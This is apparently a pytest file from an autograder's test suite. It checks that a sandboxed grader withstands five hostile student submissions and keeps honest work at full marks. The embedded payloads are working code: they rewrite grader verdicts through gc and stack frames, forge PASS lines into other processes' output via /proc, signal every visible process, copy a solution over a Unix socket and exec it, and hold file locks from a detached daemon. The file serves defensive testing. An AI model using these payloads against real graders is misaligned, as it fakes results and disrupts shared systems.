"""Five attacks of kinds no report named (issue 27, item 6), graded as root through the
real grader in one batch beside an honest submission:

* ``gc_walker``: at import, walks ``gc.get_objects()`` and its own frames
  (``sys._getframe``) for anything of the course's (functions, dicts holding a verdict)
  and rewrites what it finds to say "passed";
* ``proc_forger``: looks through ``/proc`` for a checker or grader process, reads its
  environment, tries its memory and writes forged PASS lines and a forged result into
  its standard output (``/proc/<pid>/fd/1``);
* ``signaller``: sends SIGINT, SIGTERM, SIGUSR1, SIGUSR2, SIGALRM and SIGCHLD to every
  process it can see, hoping to break the checker into a verdict;
* ``socket_publisher`` / ``socket_copier``: the publisher (a correct file) serves its
  source on an abstract Unix socket from a daemon child; the copier, graded at the same
  time by the other worker, connects and runs what it receives;
* ``locker``: a double-forked, setsid daemon holds exclusive ``flock``s on the Python
  environment's files and the course's and tries to keep running after its stage, to
  stall or starve the submissions graded beside and after it.

Each attacker is the starter with the attack added (or, for the publisher, the
solution): it must score what the same file scores without the attack, and the honest
submissions graded beside and after it keep full marks; no process outlives the batch.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from autograder import sandbox
from autograder.gradebook import Gradebook
from coursekit.facts import ROOT

pytestmark = pytest.mark.slow
STAGE = "foundations:1"
SOLUTION = ROOT / "projects" / "foundations" / "solution" / "model.py"
STARTER = ROOT / "projects" / "foundations" / "starter" / "model.py"
MARK = "attack-27-novel"  # in every attacker's process title, to find survivors

GC_WALKER = r'''
import gc as _gc, sys as _sys
def _forge():
    frame = _sys._getframe()
    while frame is not None:
        for scope in (frame.f_locals, frame.f_globals):
            for key in ("passed", "ok", "status"):
                if isinstance(scope, dict) and key in scope:
                    scope[key] = "pass" if key == "status" else True
        frame = frame.f_back
    for obj in _gc.get_objects():
        if isinstance(obj, dict) and "passed" in obj:
            obj["passed"] = True
            if "status" in obj:
                obj["status"] = "pass"
        elif callable(obj) and getattr(obj, "__module__", "") and (
                obj.__module__.startswith(("coursekit.checking", "autograder"))):
            try:
                obj.__code__ = (lambda *a, **k: True).__code__
            except (AttributeError, TypeError, ValueError):
                pass
_forge()
'''
PROC_FORGER = r'''
import json as _json, os as _os
def _forge():
    lines = ("PASS stage 1 · every check\n" + _json.dumps(
        {"stage": 1, "passed": True, "points": 99, "checks": []}) + "\n").encode()
    for pid in (p for p in _os.listdir("/proc") if p.isdigit() and int(p) != _os.getpid()):
        base = f"/proc/{pid}"
        try:
            cmd = open(base + "/cmdline", "rb").read()
        except OSError:
            continue
        if b"check" not in cmd and b"autograder" not in cmd and b"coursekit" not in cmd:
            continue
        for name in ("environ", "mem"):
            try:
                open(base + "/" + name, "rb").read(64)
            except OSError:
                pass
        for fd in ("1", "2"):
            try:
                with open(base + "/fd/" + fd, "wb") as out:
                    out.write(lines)
            except OSError:
                pass
_forge()
'''
SIGNALLER = r'''
import os as _os, signal as _signal
for _pid in (int(p) for p in _os.listdir("/proc") if p.isdigit()):
    if _pid in (_os.getpid(), 1):
        continue
    for _sig in (_signal.SIGINT, _signal.SIGTERM, _signal.SIGUSR1, _signal.SIGUSR2,
                 _signal.SIGALRM, _signal.SIGCHLD):
        try:
            _os.kill(_pid, _sig)
        except OSError:
            pass
'''
SOCKET_NAME = b"\0course-share-27"
PUBLISH = r'''
import os as _os, socket as _socket
def _serve():
    if _os.fork() != 0:
        return
    try:
        data = open(__file__, "rb").read()
        srv = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
        srv.bind(NAME)
        srv.listen(8)
        srv.settimeout(120)
        while True:
            conn, _ = srv.accept()
            conn.sendall(data)
            conn.close()
    finally:
        _os._exit(0)
_serve()
'''.replace("NAME", repr(SOCKET_NAME))
# The copier keeps trying for COPY_TRIES_S: the publisher, graded at the same moment by
# the other worker, serves from its import until its stage (foundations 1, a few seconds)
# ends. Every second of it is a second the suite waits: only a copier kept apart ever
# waits it out (40 s before session 14).
COPY_TRIES_S = 15
COPY = r'''
import socket as _socket, time as _time
def _copied():
    deadline = _time.monotonic() + TRIES
    while _time.monotonic() < deadline:
        try:
            c = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
            c.connect(NAME)
            chunks = []
            while True:
                b = c.recv(65536)
                if not b:
                    break
                chunks.append(b)
            return b"".join(chunks).decode()
        except OSError:
            _time.sleep(0.5)
    return None
_source = _copied()
if _source:
    exec(compile(_source, __file__, "exec"), globals())
'''.replace("NAME", repr(SOCKET_NAME)).replace("TRIES", str(COPY_TRIES_S))
LOCKER = r'''
import fcntl as _fcntl, os as _os, sys as _sys, time as _time
def _hold():
    if _os.fork() != 0:
        return
    _os.setsid()
    if _os.fork() != 0:
        _os._exit(0)
    held = []
    for top in {_sys.prefix, _os.path.dirname(_os.__file__), _os.path.dirname(__file__)}:
        for here, _dirs, files in _os.walk(top):
            for name in files[:50]:
                try:
                    fd = _os.open(_os.path.join(here, name), _os.O_RDONLY)
                    _fcntl.flock(fd, _fcntl.LOCK_EX | _fcntl.LOCK_NB)
                    held.append(fd)
                except OSError:
                    pass
            if len(held) > 2000:
                break
    _time.sleep(600)
    _os._exit(0)
_hold()
'''


def _title() -> str:
    """Name the attacker's process, so a survivor can be found after the batch."""
    return ("try:\n"
            f"    open('/proc/self/comm', 'w').write('{MARK[:10]}')\n"
            "except OSError:\n    pass\n")


def _submission(folder: Path, source: str) -> None:
    path = folder / "projects" / "foundations" / "starter" / "model.py"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(source)


def _survivors() -> list[str]:
    found = []
    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
        try:
            comm = Path(f"/proc/{pid}/comm").read_text().strip()
        except OSError:
            continue
        if comm == MARK[:10]:
            found.append(pid)
    return found


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    if sandbox.isolation() != "namespaces":
        pytest.skip("needs root with namespaces (what CI and a real grading node have)")
    tmp = tmp_path_factory.mktemp("novel-attacks")
    subs = tmp / "subs"
    starter, solution = STARTER.read_text(), SOLUTION.read_text()
    _submission(subs / "a_socket_publisher", solution + _title() + PUBLISH)
    _submission(subs / "b_socket_copier", starter + _title() + COPY)
    _submission(subs / "c_gc_walker", starter + _title() + GC_WALKER)
    _submission(subs / "d_proc_forger", starter + _title() + PROC_FORGER)
    _submission(subs / "e_signaller", starter + _title() + SIGNALLER)
    _submission(subs / "f_locker", starter + _title() + LOCKER)
    _submission(subs / "g_honest", solution)
    _submission(subs / "h_starter", starter)
    env = {**os.environ, "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}
    done = subprocess.run([sys.executable, "-m", "autograder", "grade", str(subs), "--out",
                           str(tmp / "out"), "--stages", STAGE, "--workers", "2", "--quiet"],
                          cwd=ROOT, capture_output=True, text=True, timeout=900, env=env,
                          check=False)
    assert done.returncode == 0, done.stderr[-3000:]
    book = Gradebook.in_dir(tmp / "out")
    rows = {student: row["record"] for (student, _), row in book.latest().items()}
    book.close()
    return rows, _survivors()


@pytest.mark.parametrize("attacker", ["b_socket_copier", "c_gc_walker", "d_proc_forger",
                                      "e_signaller", "f_locker"])
def test_an_attack_scores_what_the_starter_scores(graded, attacker):
    rows, _ = graded
    assert rows["h_starter"]["points"] == 0, rows["h_starter"]
    got = rows[attacker]
    assert got["points"] == rows["h_starter"]["points"] and got["status"] != "pass", got


def test_honest_work_beside_the_attacks_keeps_full_marks(graded):
    rows, _ = graded
    for honest in ("g_honest", "a_socket_publisher"):
        assert rows[honest]["status"] == "pass", rows[honest]
        assert rows[honest]["points"] == rows[honest]["max_points"] > 0


def test_no_attacker_process_outlives_the_batch(graded):
    _, survivors = graded
    assert survivors == [], f"attacker processes still running: {survivors}"
